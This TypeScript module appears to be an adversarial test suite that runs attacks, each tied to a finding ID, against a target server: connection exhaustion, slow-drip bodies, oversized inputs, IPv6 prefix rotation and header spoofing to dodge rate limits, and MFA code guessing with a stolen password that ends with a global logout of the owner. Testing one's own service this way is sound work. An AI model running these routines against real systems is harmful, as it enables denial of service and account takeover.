import { connect, type Socket } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { stolen } from "./guarded-owner.ts";
import { type Attack, ask, drip, flood, json, madeUp, postAs, type Target } from "./outsider.ts";

const endless = (sign: string) => sign.repeat(60_000);

/** Keeps this many connections open, from loopback addresses of this machine, which the server counts separately. */
async function hold(target: Target, count: number, addresses: string[], isOver: () => boolean) {
  const open = new Set<Socket>();
  const { hostname, port } = new URL(target.url);
  for (let turn = 0; !isOver(); turn += 1) {
    for (let n = 0; n < 100 && open.size < count; n += 1) {
      const localAddress = addresses[(turn * 100 + n) % addresses.length];
      const socket = connect({ host: hostname, port: Number(port), localAddress });
      open.add(socket);
      socket.on("error", () => undefined).on("close", () => open.delete(socket));
    }
    await wait(100);
  }
  for (const socket of open) socket.destroy();
}

/** One attempt of a thief with the password: sign in, guess, and end the sessions of the owner. */
async function guess(target: Target, turn: number): Promise<number> {
  const headers = { ...json(target), "x-forwarded-for": `203.0.113.${turn % 200}` };
  const send = (path: string, body: object, token?: string) =>
    fetch(`${target.url}/auth/v1/${path}`, {
      method: "POST",
      headers: { ...headers, ...(token && { authorization: `Bearer ${token}` }) },
      body: JSON.stringify(body),
    }).then(async (answer) => ({ status: answer.status, body: await answer.json().catch(() => ({})) }));
  const { status, body } = await send("token?grant_type=password", stolen);
  if (status !== 200) return status;
  const [factor] = body.user.factors ?? [];
  const begun = await send(`factors/${factor?.id}/challenge`, {}, body.access_token);
  const challenge = { challenge_id: begun.body.id, code: String(100_000 + (turn % 900_000)) };
  await send(`factors/${factor?.id}/verify`, challenge, body.access_token);
  await send("factors/recovery-codes/verify", { code: "aaaa aaaa aaaa aaaa" }, body.access_token);
  return (await send("logout?scope=global", {}, body.access_token)).status;
}

/** Attacks by someone who has a network, patience or a password. */
export const networkAttacks: readonly Attack[] = [
  {
    finding: "W3",
    does: "wrong codes by a thief who has the password of an owner",
    run: (target, isOver) => flood(4, isOver, (turn) => guess(target, turn).catch(() => 0)),
  },
  {
    finding: "W5",
    does: "enquiries from ever new /64 of one /48",
    run: (target, isOver) =>
      flood(8, isOver, (turn) =>
        postAs(target, "/leads", `2001:db8:48:${(turn % 65_536).toString(16)}::1`, {
          form: "hero",
          contact: `+91 98480 ${madeUp()}`,
        }),
      ),
  },
  {
    finding: "W6",
    does: "ten thousand connections from three addresses",
    run: (target, isOver) => hold(target, 10_000, ["127.0.0.2", "127.0.0.3", "127.0.0.4"], isOver),
  },
  {
    finding: "W6b",
    does: "two hundred bodies at a byte a second",
    run: async (target, isOver) => {
      const stops = Array.from({ length: 200 }, (_, n) => drip(target, crypto.randomUUID(), `198.51.${n}.9`));
      while (!isOver()) await wait(200);
      for (const stop of stops) stop();
    },
  },
  {
    finding: "W1",
    does: "words of sixty thousand signs in forms, and long ones in the search",
    run: (target, isOver) =>
      flood(4, isOver, (turn) => {
        const sign = ["a", "1", "[", "*", "@", "."][turn % 6] ?? "a";
        const from = `198.18.${turn % 250}.9`;
        return turn % 2 === 0
          ? postAs(target, "/contact", from, {
              contact: `+91 ${turn}`,
              consent: "yes",
              message: endless(sign),
            })
          : ask(target, `/search?q=${encodeURIComponent(sign.repeat(1_500))}`, { from });
      }),
  },
];
